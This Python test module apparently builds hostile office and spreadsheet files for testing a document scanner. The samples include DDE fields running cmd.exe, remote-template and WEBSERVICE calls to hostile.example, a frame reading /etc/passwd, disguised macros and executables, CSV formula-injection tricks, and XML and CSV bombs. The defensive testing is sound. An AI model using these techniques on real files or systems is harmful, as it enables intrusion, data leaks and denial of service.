"""Documents that hide what they do, or keep whoever looks into them busy (`tests.hostile_files`)."""

from tests import hostile_makers as make
from tests.hostile_makers import docx, docx_with, odt, packed
from tests.hostile_outcomes import (
    ACTS,
    ATTACHMENT,
    DAMAGED,
    DISGUISED,
    DOCUMENT,
    DOWNLOAD,
    FILES,
    FORMULAS,
    HOLDS,
    LEADS,
    LONG_ROW,
    LOOKED_INTO,
    MANY_ROWS,
    NOT_TAKEN,
    OWN_CELLS,
    REACHES,
    TOO_MUCH,
    Hostile,
    Kept,
    at,
)
from tests.hostile_pdfs import BUSY_PDFS, PDFS

KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MACROS = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def field(*runs: str) -> bytes:
    """Of a document of Word: its words may stand in many runs."""
    told = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
    return docx(word__document_xml=f"<w:document>{begin}{told}{end}</w:document>".encode())


def related(kind: str, target: str, *, before: str = "", name: str = "Relationship", more: dict | None = None) -> bytes:
    relation = f'<{name} Id="a>b" Type="{kind}" Target="{target}" TargetMode="External"/>'
    listed = {"word/_rels/document.xml.rels": f"<Relationships>{before}{relation}</Relationships>".encode()}
    return packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"} | listed | (more or {}))


def inside(kind: str, part: str, content: bytes) -> bytes:
    relation = f'<Relationships><Relationship Id="a" Type="{kind}" Target="/{part}"/></Relationships>'.encode()
    return packed(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<document/>",
            "word/_rels/document.xml.rels": relation,
            part: content,
        }
    )


def odt_with(element: str) -> bytes:
    return odt(content_xml=f"<office:document-content>{element}</office:document-content>".encode())


def connected(what: str, *, more: str = "") -> bytes:
    connection = f'<connections><connection id="1" {more}>{what}</connection></connections>'
    return make.xlsx_with("xl/connections.xml", connection.encode())


def cell(formula: str) -> bytes:
    return make.xlsx_with("xl/worksheets/sheet1.xml", f'<worksheet><c r="A1"><f>{formula}</f></c></worksheet>'.encode())


def sheet(formula: str) -> bytes:
    told = f'<table:table-cell table:formula="of:={formula}"/>'.encode()
    return packed({"mimetype": make.ODT.replace(b"text", b"spreadsheet"), "content.xml": told})


def document(name: str, made, outcome: str | Kept, *, kind: str = "program") -> Hostile:
    return Hostile(name, kind, "plan.docx", made, at(FILES, outcome))


def text(name: str, made, outcome: str | Kept, *, kind: str = "program") -> Hostile:
    return Hostile(name, kind, "plan.odt", made, at(FILES, outcome))


def workbook(name: str, made, outcome: str | Kept, *, kind: str = "program") -> Hostile:
    return Hostile(name, kind, "plan.xlsx", made, at(FILES, outcome))


def table(name: str, content: str, outcome: str | Kept, *, kind: str = "program", times: int = 1) -> Hostile:
    return Hostile(name, kind, "plan.csv", lambda: content.encode() * times, at(FILES, outcome))


OFFICE = [
    document("DOCX whose command stands in two runs", lambda: field("DDE", "AUTO c:\\cmd.exe"), ACTS),
    document("DOCX that runs a command when asked", lambda: field('DDE "c:\\\\cmd.exe" "/k calc"'), ACTS),
    document("DOCX whose command is written in numbers", lambda: field("D&#68;EAUTO c:\\cmd.exe"), ACTS),
    document(
        "DOCX whose real text has another name",
        lambda: docx_with("word/real.bin", b"<w:document><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:document>"),
        ACTS,
    ),
    document("DOCX with macros of another name", lambda: inside(MACROS, "word/harmless.bin", b"x"), ACTS),
    document(
        "DOCX whose types are written in numbers",
        lambda: packed(
            {
                "[Content_Types].xml": b'<Types><Override ContentType="word.document.macro&#69;nabled"/></Types>',
                "word/document.xml": b"<document/>",
            }
        ),
        ACTS,
    ),
    document("DOCX with a program called PNG", lambda: docx_with("word/media/image1.png", b"MZ" + bytes(90)), ACTS),
    document(
        "DOCX with an archive called BIN",
        lambda: docx_with("word/embeddings/x.bin", packed({"a.exe": b"MZ"})),
        HOLDS,
    ),
    document("DOCX with a page in it", lambda: inside(f"{KINDS}aFChunk", "x.html", make.SCRIPT), HOLDS),
    document(
        "DOCX with the workbook of a chart",
        lambda: inside(f"{KINDS}package", "word/embeddings/a.xlsx", make.xlsx()),
        LOOKED_INTO,
        kind="harmless",
    ),
    document(
        "DOCX with a workbook that has macros",
        lambda: inside(f"{KINDS}package", "word/embeddings/a.xlsx", docx_with("xl/vbaProject.bin")),
        ACTS,
    ),
    document(
        "DOCX whose relations have a prefix",
        lambda: related(f"{KINDS}attachedTemplate", "http://hostile.example/a.dotm", name="r:Relationship"),
        REACHES,
    ),
    document(
        "DOCX with a megabyte of relations",
        lambda: related(
            f"{KINDS}attachedTemplate", "http://hostile.example/a.dotm", before=f"<!--{'x' * 1_100_000}-->"
        ),
        TOO_MUCH,
    ),
    document(
        "DOCX with a picture from elsewhere", lambda: related(f"{KINDS}image", "http://hostile.example/a.png"), REACHES
    ),
    document(
        "DOCX with a picture from a server", lambda: related(f"{KINDS}image", r"\\hostile.example\a\a.png"), REACHES
    ),
    document(
        "DOCX whose field fetches a picture",
        lambda: field('INCLUDEPICTURE "http://hostile.example/a.png" \\d'),
        REACHES,
    ),
    document("DOCX with a link", lambda: related(f"{KINDS}hyperlink", "https://example.org"), LEADS, kind="harmless"),
    document("DOCX in an alphabet of its own", lambda: docx(word__a_xml="<a/>".encode("cp037")), DAMAGED),
    text(
        "ODT with a picture from elsewhere",
        lambda: odt_with('<draw:image xlink:href="http://hostile.example/a.png"/>'),
        REACHES,
    ),
    text(
        "ODT with a frame of the reader's files",
        lambda: odt_with('<draw:floating-frame xlink:href="file:///etc/passwd"/>'),
        REACHES,
    ),
    text("ODT with a plugin", lambda: odt_with('<draw:plugin xlink:href="http://hostile.example/a"/>'), REACHES),
    text(
        "ODT with a section from elsewhere",
        lambda: odt_with('<text:section-source xlink:href="//hostile.example/a.odt"/>'),
        REACHES,
    ),
    text(
        "ODT whose script is written in numbers",
        lambda: odt_with('<script:event-listener xlink:href="vnd.sun.star.scr&#105;pt:x$y"/>'),
        ACTS,
    ),
    text("ODT that runs a command (DDE)", lambda: odt_with('<office:dde-source office:dde-application="cmd"/>'), ACTS),
    text("ODT with a link", lambda: odt_with('<text:a xlink:href="https://example.org"/>'), LEADS, kind="harmless"),
]

WORKBOOKS = [
    workbook(
        "XLSX that fetches a page when opened", lambda: connected('<webPr url="http://hostile.example/"/>'), REACHES
    ),
    workbook(
        "XLSX that fetches a page, its name in numbers",
        lambda: connected('<webPr url="&#104;ttp://hostile.example/"/>'),
        REACHES,
    ),
    workbook(
        "XLSX with a database of a server",
        lambda: connected(r'<dbPr connection="Provider=SQLOLEDB;Data Source=\\hostile.example\a" command="a"/>'),
        REACHES,
    ),
    workbook(
        "XLSX with a table from a server", lambda: connected(r'<textPr sourceFile="\\hostile.example\a"/>'), REACHES
    ),
    workbook("XLSX that fetches anew when opened", lambda: connected("<olapPr/>", more='refreshOnLoad="1"'), REACHES),
    workbook(
        "XLSX with a query of its own",
        lambda: connected('<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=a"/>'),
        DOWNLOAD,
        kind="harmless",
    ),
    workbook("XLSX whose cell runs a command", lambda: cell("cmd|'/c calc'!A0"), ACTS),
    workbook("XLSX whose cell runs a command in pieces", lambda: cell("c<![CDATA[md]]>&#124;'/c calc'!A0"), ACTS),
    workbook(
        "XLSX whose name runs a command",
        lambda: packed(
            {
                "[Content_Types].xml": b"<Types/>",
                "xl/workbook.xml": b"<workbook><definedName name='a'>cmd|'/c calc'!A0</definedName></workbook>",
            }
        ),
        ACTS,
    ),
    workbook("XLSX whose cell asks a program", lambda: cell('RTD("hostile",,"a")'), ACTS),
    workbook("XLSX whose cell fetches a page", lambda: cell('_xlfn.WEBSERVICE("http://hostile.example/")'), REACHES),
    workbook("XLSX whose cell fetches, in numbers", lambda: cell("WEB&#83;ERVICE(A1)"), REACHES),
    workbook("XLSX whose cell fetches a picture", lambda: cell('_xlfn.IMAGE("http://hostile.example/a.png")'), REACHES),
    workbook(
        "XLSX whose cell speaks of what fetches",
        lambda: cell("""A1&amp;"WEBSERVICE(a)|b!"&amp;'a|b'!A1"""),
        OWN_CELLS,
        kind="harmless",
    ),
    Hostile(
        "ODS whose cell fetches a page", "program", "plan.ods", lambda: sheet("WEBSERVICE(A1)"), {DOCUMENT: REACHES}
    ),
    Hostile("XLSX called DOCX", "disguise", "plan.docx", make.xlsx, at(FILES, DISGUISED)),
    Hostile("DOCX called XLSX", "disguise", "plan.xlsx", docx, at(FILES, DISGUISED)),
    Hostile(
        "DOCX and XLSX in one",
        "two in one",
        "plan.docx",
        lambda: docx_with("xl/workbook.xml", b"<workbook/>"),
        {ATTACHMENT: NOT_TAKEN, DOCUMENT: DISGUISED},
    ),
]

TABLES = [
    table("table with a formula behind nothing seen", "a,\u200b=1+1", FORMULAS),
    table("table with a formula in wide letters", "a,\uff1d1+1", FORMULAS),
    table("table with a formula behind a bar", "a|=1+1", FORMULAS),
    table("table that says what parts its cells", "sep=~\na~=1+1", FORMULAS),
    table("table with a formula behind the mark of its bytes", "\ufeff=1+1,a", FORMULAS),
    table("table with a formula in quotation marks", 'a,"\t=1+1"', FORMULAS),
    table("table that adds its own cells", "a,+A1*2\n-A1,b", OWN_CELLS, kind="harmless"),
]

BUSY = [
    document(
        "DOCX of unfinished relations",
        lambda: docx_with("word/_rels/document.xml.rels", b"<Relationship " * 70_000),
        DAMAGED,
        kind="bomb",
    ),
    document(
        "DOCX with 85 parts of relations",
        lambda: packed(
            {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"}
            | {f"word/_rels/{number}.rels": b"<Relationship " * 75_000 for number in range(85)}
        ),
        TOO_MUCH,
        kind="bomb",
    ),
    document(
        "DOCX of two million elements",
        lambda: docx(word__document_xml=b'<a href="">' + b"<b/>" * 2_000_000 + b"</a>"),
        TOO_MUCH,
        kind="bomb",
    ),
    document(
        "DOCX with an address of 30 MB",
        lambda: docx(word__document_xml=b'<a href="' + b"d" * 30_000_000 + b'"/>'),
        TOO_MUCH,
        kind="bomb",
    ),
    document(
        "DOCX of 100,000 elements in each other",
        lambda: docx(word__document_xml=b'<a href="">' * 100_000 + b"</a>" * 100_000),
        TOO_MUCH,
        kind="bomb",
    ),
    document(
        "DOCX of 300,000 namespaces",
        lambda: docx(word__document_xml=b'<a href="">' + make.numbered(b"<b xmlns:n%d='u'/>", 300_000) + b"</a>"),
        TOO_MUCH,
        kind="bomb",
    ),
    document(
        "DOCX of a million different elements",
        lambda: docx(word__document_xml=b'<a href="">' + make.numbered(b"<b%028d/>", 1_000_000) + b"</a>"),
        TOO_MUCH,
        kind="bomb",
    ),
    document(
        "DOCX of a million different attributes",
        lambda: docx(word__document_xml=b'<a href="">' + make.numbered(b"<b a%028d=''/>", 900_000) + b"</a>"),
        TOO_MUCH,
        kind="bomb",
    ),
    table("table of 3.3 million cells in a row", "+a,", LONG_ROW, kind="bomb", times=3_300_000),
    table("table of a cell without an end", '"a' + "a" * 999, LONG_ROW, kind="bomb", times=9_000),
    table("table of two million rows", "a;b\n", MANY_ROWS, kind="bomb", times=2_000_000),
    table("table of a million lines in one row", '"a\n",', LONG_ROW, kind="bomb", times=1_000_000),
]

DOCUMENTS = [*OFFICE, *WORKBOOKS, *PDFS, *TABLES, *BUSY, *BUSY_PDFS]
